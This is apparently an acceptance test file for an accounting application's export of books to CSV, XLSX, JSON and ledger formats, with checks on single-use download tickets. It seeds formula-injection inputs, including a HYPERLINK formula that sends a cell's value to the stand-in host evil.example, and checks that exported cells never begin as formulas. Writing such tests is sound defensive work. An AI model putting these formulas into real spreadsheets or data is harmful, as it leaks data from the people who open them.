import { max } from 'drizzle-orm';
import { controlQuery } from '@cifra/database/statement';
import { unzipSync, strFromU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { systemRequest } from '@cifra/ops/system-request';
import { exportBooks } from '@cifra/exchange/export/export-books';
import { openFirm, type TestFirm } from '../worlds/firm/firm.ts';
import { idIn } from '../worlds/firm/client-requests.ts';
import { openClient, openDocumentClient, type TestClient } from '../worlds/firm/client.ts';
import { csvRows, fetchFile } from '../worlds/firm/client-files.ts';

const newestCommit = controlQuery()((q) =>
  q.db.select({ number: max(q.t.commits.number) }).from(q.t.commits),
);

/** Exports of a tenant's books through the API and the files endpoint (acceptance I2). */

let firm: TestFirm;
let client: TestClient;
const hostile = '=HYPERLINK("http://evil.example?x="&A1;"free")';
beforeAll(async () => {
  firm = await openFirm();
  client = await openClient(firm);
  await client.accepted('createParty', { code: '-7', name: hostile, isCustomer: true, note: '+1\t2' });
  await client
    .accepted('createAccount', { code: '@SUM', name: '\u0009=1+1', type: 'ASSET' })
    .catch(() => client.accepted('createAccount', { code: '@SUM', name: '=1+1', type: 'ASSET' }));
  await client.postSale({ date: '2026-01-15', amount: '12.30', description: hostile });
  await client.postSale({ date: '2026-02-15', amount: '1.00', description: 'Plain, "quoted"' });
});
afterAll(() => firm?.close());

const day = { asOf: '2026-12-31' };
const year = { from: '2026-01-01', to: '2026-12-31' };
const parts = {
  JOURNAL: {},
  GENERAL_LEDGER: year,
  TRIAL_BALANCE: day,
  BALANCE_SHEET: day,
  INCOME_STATEMENT: year,
  ACCOUNTS: {},
  PARTIES: {},
  TAX_CODES: {},
  ITEMS: {},
  DOCUMENTS: {},
  MONEY_DOCUMENTS: {},
  OPEN_ITEMS: day,
} as const;

describe.each(Object.entries(parts))('%s', (what, range) => {
  test('is exported as CSV, XLSX and JSON with the same rows', async () => {
    const csv = await client.export({ what, format: 'CSV', ...range });
    expect(csv.status).toBe(200);
    const rows = csvRows(csv.text);
    const json = await client.export({ what, format: 'JSON', ...range });
    const read = JSON.parse(json.text) as { rows: Record<string, unknown>[]; columns: { name: string }[] };
    expect(read.rows.length).toBe(rows.length);
    expect(csv.text.split('\n')[0]).toBe(read.columns.map(({ name }) => name).join(','));
    const xlsx = await client.export({ what, format: 'XLSX', ...range });
    const sheet = strFromU8(unzipSync(xlsx.bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet.match(/<row>/g)?.length).toBe(rows.length + 1);
  });

  test('I2: no cell of CSV or XLSX begins as a formula, numbers stay numbers', async () => {
    const csv = await client.export({ what, format: 'CSV', ...range });
    for (const row of csvRows(csv.text))
      for (const cell of Object.values(row))
        expect(/^-?\d+(\.\d+)?$/.test(cell) || !/^[=+\-@\t\r\n]/.test(cell), cell).toBe(true);
    const xlsx = await client.export({ what, format: 'XLSX', ...range });
    const sheet = strFromU8(unzipSync(xlsx.bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet).not.toContain('<f>');
    for (const [, text = ''] of sheet.matchAll(/<t xml:space="preserve">([^<]*)<\/t>/g))
      expect(/^[=+\-@\t\r\n]/.test(text), text).toBe(false);
  });
});

test('money documents leave with their lines, their tax and their void, as they were posted', async () => {
  const own = await openDocumentClient(firm);
  const { roles } = own.tenant;
  const out = await own.accepted('postMoney', {
    kind: 'MONEY_OUT',
    documentDate: '2026-02-10',
    reference: 'Slip 7',
    lines: [
      { accountId: roles['FxVarianceBankFees'], amount: '9.00', description: 'Fees of January' },
      { accountId: roles['FxVarianceBankFees'], amount: '1.50', description: '=cmd' },
    ],
  });
  await own.accepted('postMoney', {
    kind: 'TRANSFER',
    documentDate: '2026-02-11',
    transfer: { amount: '4.00', toAccountId: own.accounts.foreignBank },
  });
  await own.accepted('voidMoney', {
    moneyDocumentId: idIn(out, 'moneyDocument'),
    postingDate: '2026-02-12',
    reason: 'The bank took its fees back.',
  });
  const { text } = await own.export({ what: 'MONEY_DOCUMENTS', format: 'CSV' });
  const shared = { document: 'MOU-2026-000001', kind: 'MONEY_OUT', is_void: 'yes', total_amount: '10.50' };
  expect(csvRows(text)).toMatchObject([
    {
      ...shared,
      line: '1',
      line_net_amount: '9.00',
      line_description: 'Fees of January',
      reference: 'Slip 7',
    },
    { ...shared, line: '2', line_net_amount: '1.50', line_description: "'=cmd" },
    { document: 'TRF-2026-000001', is_void: 'no', received_amount: '4.00', line: '' },
  ]);
  const later = await own.export({ what: 'MONEY_DOCUMENTS', format: 'CSV', from: '2026-02-11' });
  expect(csvRows(later.text)).toHaveLength(1);
});

describe.each(['SAFT', 'HLEDGER', 'BEANCOUNT'])('%s', (format) => {
  test('holds the journal', async () => {
    const file = await client.export({ what: 'JOURNAL', format });
    expect(file.status).toBe(200);
    expect(file.text).toContain('12.30');
  });

  test('holds no report', async () => {
    expect(await client.do('exportBooks', { what: 'ACCOUNTS', format })).toMatchObject({
      code: 'INPUT_INVALID',
      inputFaults: [{ field: 'format' }],
    });
  });
});

test('hostile texts come back as they were in JSON', async () => {
  const json = await client.export({ what: 'PARTIES', format: 'JSON' });
  expect((JSON.parse(json.text) as { rows: unknown[] }).rows).toMatchObject([{ code: '-7', name: hostile }]);
});

test('a ticket is good once, and only for the person who requested it', async () => {
  const ask = () => client.accepted('exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
  const url = String((await ask())['url']);
  expect((await fetchFile(firm, url)).status).toBe(200);
  expect((await fetchFile(firm, url)).status).toBe(404);
  expect((await fetchFile(firm, '/files/nobody')).status).toBe(404);
});

test('an export is an event before its first byte, and a ticket that was not fetched is not', async () => {
  const ticket = await client.accepted('exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
  const before = (await client.events('BOOKS_EXPORTED')).length;
  const response = await fetch(`${firm.url}${String(ticket['url'])}`);
  const events = await client.events('BOOKS_EXPORTED');
  expect(events.length).toBe(before + 1);
  expect(events.at(-1)).toMatchObject({ what: 'ACCOUNTS', format: 'CSV', fileName: ticket['fileName'] });
  await response.text();
});

test('what is no ticket leaves no commit behind; somebody else with one leaves one event, however often they try', async () => {
  const commits = async (): Promise<bigint> =>
    (await firm.books.control.first(newestCommit, {}))?.number ?? 0n;
  const ticket = await client.accepted('exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
  const url = String(ticket['url']);
  const before = await commits();
  for (const [path, method] of [
    ['/files/nobody', 'GET'],
    [url, 'PUT'],
    ['/files/%E2%80%AE', 'PUT'],
  ] as const)
    expect(
      (await fetch(`${firm.url}${path}`, { method, ...(method === 'PUT' && { body: 'x' }) })).status,
    ).toBe(404);
  expect(await commits()).toBe(before);
  for (let shot = 0; shot < 5; shot += 1) expect((await firm.fetchAs('junior', url)).status).toBe(404);
  expect(await commits()).toBe(before + 1n);
  expect((await fetchFile(firm, url)).status).toBe(200);
});

test("another person's ticket, and one of a tenant for another, are worth nothing", async () => {
  const other = await openClient(firm);
  const ticket = await other.accepted('exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
  const strange = await firm.fetchAs('junior', String(ticket['url']));
  expect(strange.status).toBe(404);
  expect(await other.events('BOOKS_EXPORTED')).toEqual([]);
  const own = await other.export({ what: 'JOURNAL', format: 'CSV' });
  expect(csvRows(own.text)).toEqual([]);
});

test('dates that a part does not accept, or lacks, are named', async () => {
  const ask = (input: Record<string, unknown>) => client.do('exportBooks', { format: 'CSV', ...input });
  expect(await ask({ what: 'TRIAL_BALANCE' })).toMatchObject({
    code: 'INPUT_INVALID',
    inputFaults: [{ field: 'asOf' }],
  });
  expect(await ask({ what: 'ACCOUNTS', asOf: '2026-01-01' })).toMatchObject({
    inputFaults: [{ field: 'asOf' }],
  });
  expect(await ask({ what: 'JOURNAL', from: '2026-02-01', to: '2026-01-01' })).toMatchObject({
    inputFaults: [{ field: 'to' }],
  });
  expect(await ask({ what: 'JOURNAL', format: 'HLEDGER', from: '2026-02-01' })).toMatchObject({
    inputFaults: [{ field: 'from' }],
  });
});

test('what is posted while an export is fetched is left out of it, and a reader who goes away stops it', async () => {
  const own = await openClient(firm);
  await own.postSale({ date: '2026-01-15', amount: '1.00', description: 'Before' });
  const begin = async (): Promise<AsyncIterator<string | Uint8Array>> => {
    const input = { what: 'JOURNAL', format: 'CSV', from: null, to: null, asOf: null } as const;
    const made = await exportBooks(
      firm.books,
      { tenantId: own.tenant.id, input: input, fileName: 'journal.csv', ticketHash: null },
      systemRequest('test'),
    );
    if (!made.ok) throw new Error(JSON.stringify(made.refusal));
    return made.value.body[Symbol.asyncIterator]();
  };
  const pieces = await begin();
  const read = [await pieces.next()];
  await own.postSale({ date: '2026-01-15', amount: '2.00', description: 'Meanwhile' });
  while (read.at(-1)?.done !== true) read.push(await pieces.next());
  const text = read.map(({ value }) => (typeof value === 'string' ? value : '')).join('');
  expect(text).toContain('Before');
  expect(text).not.toContain('Meanwhile');

  const left = await begin();
  await left.next();
  await left.return?.();
  expect(await left.next()).toEqual({ done: true, value: undefined });
});
